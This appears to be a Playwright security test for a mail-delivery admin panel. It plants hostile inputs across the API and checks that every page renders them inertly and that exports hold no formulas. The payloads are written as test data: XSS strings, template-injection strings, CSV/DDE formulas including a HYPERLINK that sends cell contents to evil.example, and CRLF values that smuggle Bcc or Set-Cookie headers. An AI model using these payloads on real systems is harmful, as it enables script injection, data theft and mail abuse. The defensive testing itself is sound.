import { expect, type Page, test } from '@playwright/test';
import { startSystem } from '@/lib/testing/system';
import { SCOPES } from '@/lib/tokens/schema';
import { type HostileMail, startHostileMail } from './support/hostile-mail';
import { chooseTechnical, PASSWORD, settled, signIn } from './support/panel';
import { type Reply, send } from './support/raw-request';
import { watchScripts } from './support/watch-scripts';

const SCRIPT = `"'><script>ran('script')</script><img src=x onerror=ran('img')><svg onload=ran('svg')>`;
/** Each would run, be reckoned, or be a formula or a header where it is not taken as the text that it is. */
const TEXTS = [
  SCRIPT,
  `</title></textarea></style></template>${SCRIPT}`,
  `javascript:ran('url')//`,
  `[see](javascript:ran('markdown')) {{1234*5678}} {{constructor.constructor("ran('template')")()}} \${1234*5678} <%= 1234*5678 %>`,
  `=HYPERLINK("http://evil.example/?"&A1,"see")`,
  `+1+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\\u003cscript\\u003eran('escaped')\\u003c/script\\u003e &lt;script&gt;ran('entity')&lt;/script&gt; %3Cscript%3E`,
];
const FORMULAS = ['=HYPERLINK("http://evil.example")', '+1+1', '@SUM(1+1)', '-2+3'];
/** For places of 80 characters. */
const SHORT = `"><img src=x onerror=ran('s')>{{1234*5678}}`;
const AGENT = `Mozilla/5.0 <script>ran('agent')</script> "><img src=x onerror=ran('agent')>`;

test('what others write is shown as text on every page, and leaves as text', async ({ browser }) => {
  test.setTimeout(300_000);
  const system = await startSystem();
  const mail = await startHostileMail(SCRIPT);
  await system.relevo('admin', 'create', '--email', 'hostile@example.com', '--password', PASSWORD);
  const token = await system.relevo('token', 'create', '--name', 'hostile', '--scopes', SCOPES.join(','));
  const call = async (method: string, path: string, body?: unknown): Promise<Reply & { id: string }> => {
    const headers = { authorization: `Bearer ${token.trim()}`, 'user-agent': AGENT, prefer: 'wait=3' };
    const reply = await send(system.url, { method, path: `/api/v1/${path}`, headers, body });
    return {
      ...reply,
      id: reply.status < 300 && reply.text.startsWith('{') ? JSON.parse(reply.text).id : '',
    };
  };
  const must = async (method: string, path: string, body?: unknown) => {
    const reply = await call(method, path, body);
    expect(reply.status, `${method} ${path}: ${reply.text}`).toBeLessThan(300);
    return reply.id;
  };

  const pages = await plant(must, mail);
  await expectRefusals(call);
  const context = await browser.newContext({ userAgent: AGENT, baseURL: system.url });
  const page = await context.newPage();
  const alive = await watchScripts(page);
  await signIn(page, 'hostile@example.com');
  await page.goto('/');
  await must('PATCH', 'people/hostile@example.com', { name: SHORT });
  await chooseTechnical(page);
  for (const path of pages) {
    await page.goto(path);
    await settled(page);
    // Reckoned by something that takes a text for a template.
    expect(await page.locator('body').textContent(), path).not.toContain(String(1234 * 5678));
  }
  expect(alive).toEqual([]);

  await expectOnlyText(call, mail);
  await expectWatching(page, alive);
  await context.close();
  await mail.close();
  await system.stop();
});

type Must = (method: string, path: string, body?: unknown) => Promise<string>;

/** Wherever a text is stored; returns the pages that show what is there. */
async function plant(must: Must, { port }: HostileMail): Promise<string[]> {
  const settings = { host: '127.0.0.1', port, security: 'none', transcript: true };
  const company = await must('POST', 'companies', { name: SHORT, key: 'hostile' });
  const provider = await must('POST', 'providers', {
    name: SHORT,
    kind: 'smtp',
    settings,
    fromEmail: 'clinic@example.com',
    fromName: SHORT,
  });
  await must('POST', `providers/${provider}/keys`, {
    label: SHORT,
    secrets: { password: SHORT },
    scopes: SCRIPT,
    activate: false,
  });
  await must('POST', `providers/${provider}/test`, { to: 'ana@example.com' });
  for (const name of FORMULAS) await must('POST', 'tokens', { name, scopes: ['messages:read'] });
  const other = await must('POST', 'tokens', { name: SHORT, note: SCRIPT, scopes: ['messages:read'] });
  const messages: string[] = [];
  for (const [at, text] of TEXTS.entries())
    messages.push(
      await must('POST', 'messages', {
        from: { email: 'clinic@example.com', name: text.slice(0, 200) },
        to: { email: `${['ana', 'malo', 'down'][at % 3]}@example.com`, name: text.slice(0, 200) },
        subject: text,
        text: `${text}\n${text.repeat(50)}`,
        html: `<p>${text}</p><a href="javascript:ran('link')">${text}</a><form action="javascript:ran('form')"></form>`,
        headers: { 'X-Own': text },
        metadata: { [text.slice(0, 40)]: text },
        attachments: [
          { filename: `${text.slice(0, 60).replaceAll(/[/\\]/g, '')}.html`, content: btoa(SCRIPT) },
        ],
        providers: [provider],
      }),
    );
  const search = encodeURIComponent(SCRIPT);
  return [
    '/',
    '/messages',
    `/messages?q=${search}&provider=${search}&tag=${search}`,
    ...messages.map((id) => `/messages/${id}`),
    `/messages/compose?from=${messages[0]}`,
    `/messages/${search}`,
    '/queue',
    '/sandbox',
    '/providers',
    ...['', '?tab=settings', '?tab=keys', '?tab=tests', '?tab=changes', '?tab=attempts'].map(
      (tab) => `/providers/${provider}${tab}`,
    ),
    '/providers/checks',
    '/routing',
    '/drills',
    '/companies',
    `/companies/${company}`,
    '/tokens',
    `/tokens/${other}`,
    '/people',
    '/audit',
    `/audit?action=${search}&actor=${search}`,
    '/account',
    '/settings',
    `/settings?tab=${search}`,
    '/workers',
    `/${search}`,
  ];
}

const LATER = { to: 'ana@example.com', subject: 'x', text: 'x' };

/** What no place has a use for is refused by name, not mended. */
async function expectRefusals(call: (method: string, path: string, body: unknown) => Promise<Reply>) {
  const refused: [path: string, body: object, place: string][] = [
    ['messages', { ...LATER, subject: 'x\r\nBcc: eve@example.com' }, 'subject'],
    ['messages', { ...LATER, subject: 'x'.repeat(10_000) }, 'subject'],
    ['messages', { ...LATER, text: 'a\ud800' }, 'text'],
    ['messages', { ...LATER, to: { email: 'ana@example.com', name: '\u202egpj.exe' } }, 'to.name'],
    ['messages', { ...LATER, to: { email: 'ana@example.com', name: '\u200b' } }, 'to.name'],
    ['messages', { ...LATER, to: '<script>@example.com' }, 'to'],
    ['messages', { ...LATER, tags: [SCRIPT] }, 'tags.0'],
    ['messages', { ...LATER, headers: { 'X-A: b\r\nBcc': 'eve@example.com' } }, 'headers'],
    ['messages', { ...LATER, headers: { 'X-A': 'b\r\nBcc: eve@example.com' } }, 'headers.X-A'],
    ['companies', { name: SHORT, brand: { website: "javascript:ran('brand')" } }, 'brand.website'],
    ['companies', { name: 'x', brand: { color: '#fff;background:url(//evil.example)' } }, 'brand.color'],
    ['people', { email: `${SHORT}@example.com`, role: 'viewer' }, 'email'],
    ['tokens', { name: 'x\r\nSet-Cookie: a=b', scopes: ['messages:read'] }, 'name'],
    ['providers', { name: '\u202ex', kind: 'sandbox', settings: {} }, 'name'],
  ];
  const wrong: string[] = [];
  for (const [path, body, place] of refused) {
    const { status, text } = await call('POST', path, body);
    const places =
      status === 400 ? (JSON.parse(text).errors ?? []).map(({ path }: { path: string }) => path) : [];
    if (!places.some((each: string) => each.startsWith(place)))
      wrong.push(`${path} ${place}: ${status} ${text.slice(0, 200)}`);
  }
  expect(wrong).toEqual([]);
}

const HEADERS =
  /^(from|to|subject|date|message-id|mime-version|content-type|content-transfer-encoding|x-own|x-relevo-[\w-]+|feedback-id|auto-submitted|list-[\w-]+)$/i;

/** Nobody got what was not for them, no header stands that nobody set, and no cell of a file is a formula. */
async function expectOnlyText(
  call: (method: string, path: string) => Promise<Reply>,
  { taken }: HostileMail,
) {
  expect(taken.length).toBeGreaterThan(2);
  for (const { recipients, raw } of taken) {
    expect(recipients).toEqual(['ana@example.com']);
    const [head = ''] = raw.split('\r\n\r\n');
    const names = head
      .split('\r\n')
      .filter((line) => !/^[ \t]/.test(line))
      .map((line) => line.split(':')[0]!);
    expect(names.filter((name) => !HEADERS.test(name))).toEqual([]);
    expect(new Set(names).size).toBe(names.length);
  }
  for (const file of ['messages.csv', 'audit.csv']) {
    const { text } = await call('GET', file);
    expect(text).toContain('HYPERLINK');
    const cells = text.replace(/^\ufeff/, '').split(/(?:^|,|\r\n)(?=(?:[^"]*"[^"]*")*[^"]*$)/m);
    expect(cells.filter((cell) => /^"?[=+\-@\t]/.test(cell))).toEqual([]);
  }
}

/** That nothing was seen says something only if it would have been. */
async function expectWatching(page: Page, alive: string[]) {
  await page.evaluate(() => {
    document.body.append(
      Object.assign(document.createElement('div'), { innerHTML: '<img src=x onerror=ran()>' }),
    );
  });
  await expect.poll(() => alive.join()).toContain('stopped: script-src');
}
